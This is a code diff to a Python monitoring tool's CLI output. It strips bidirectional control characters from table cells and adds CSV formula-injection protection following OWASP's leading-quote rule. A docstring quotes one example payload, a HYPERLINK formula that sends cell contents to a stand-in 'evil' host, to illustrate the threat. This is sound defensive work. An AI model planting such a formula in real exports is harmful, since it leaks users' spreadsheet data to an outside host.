@@ -19,6 +19,7 @@ from monitor.config import ConfigError, Settings, load_config, parse_duration
 from monitor.logs import register_secret, setup_logging
 from monitor.store.db import DatabaseError, check_connection, create_db_engine
 from monitor.store.migrate import upgrade
+from monitor.textsafe import strip_bidi
 from monitor.timeutil import as_utc, isoformat, utcnow
 
 
@@ -146,13 +147,14 @@ def _fit(text: str, width: int) -> str:
 
 
 def _cell(value: Any) -> str:
+    """One table cell on one line; bidi controls dropped so a title cannot reorder the columns beside it."""
     if value is None:
         return ""
     if isinstance(value, datetime):
         return isoformat(value) or ""
     if isinstance(value, float):
         return f"{value:.3f}"
-    return " ".join(str(value).split())
+    return " ".join(strip_bidi(str(value)).split())
 
 
 def render_table(rows: Sequence[dict[str, Any]], columns: Sequence[str], max_width: int = 60) -> str:
@@ -174,8 +176,30 @@ def _jsonable(value: Any) -> Any:
     return value
 
 
+# A spreadsheet evaluates a cell that starts with one of these as a formula (OWASP, CSV injection).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV value a spreadsheet shows as text and never runs.
+
+    A headline such as `=HYPERLINK("http://evil/?"&A1)` would otherwise execute when the export is opened:
+    text starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'` (OWASP's rule), after
+    the bidi controls are dropped (they could hide that start). Numbers are numbers, left as they are.
+    A carriage return inside text becomes a line feed: with the `\n` line terminator the csv module would
+    leave it unquoted, and readers would split the row there.
+    """
+    value = _jsonable(value)
+    if not isinstance(value, str):
+        return value
+    value = strip_bidi(value)
+    if value.startswith(_FORMULA_START):
+        value = "'" + value
+    return value.replace("\r\n", "\n").replace("\r", "\n")
+
+
 def emit(rows: Iterable[dict[str, Any]], output_format: str, columns: Sequence[str]) -> None:
-    """Print rows as a table, a JSON array or CSV (with a header)."""
+    """Print rows as a table, a JSON array or CSV (with a header; cells made safe by `csv_cell`)."""
     rows = list(rows)
     if output_format == "json":
         data = [{k: _jsonable(v) for k, v in row.items()} for row in rows]
@@ -185,7 +209,7 @@ def emit(rows: Iterable[dict[str, Any]], output_format: str, columns: Sequence[s
         writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore", lineterminator="\n")
         writer.writeheader()
         for row in rows:
-            writer.writerow({k: _jsonable(row.get(k)) for k in columns})
+            writer.writerow({k: csv_cell(row.get(k)) for k in columns})
         click.echo(buffer.getvalue(), nl=False)
     else:
         if not rows:
